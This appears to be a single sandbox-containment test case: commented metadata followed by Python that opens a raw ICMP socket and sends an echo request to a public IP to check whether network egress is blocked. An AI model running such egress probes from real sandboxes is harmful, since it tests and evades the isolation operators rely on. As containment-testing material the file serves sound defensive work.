# title: sends data out in an echo request
# harm: obtains
# egress: public.example:80
# B: seccomp refuses sockets; no capabilities
# C: seccomp refuses raw sockets; an empty network namespace
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
if s.sendto(b'\x08\0\xf7\xff\0\0\0\0', ('93.184.216.34', 0)) == 8: obtained()
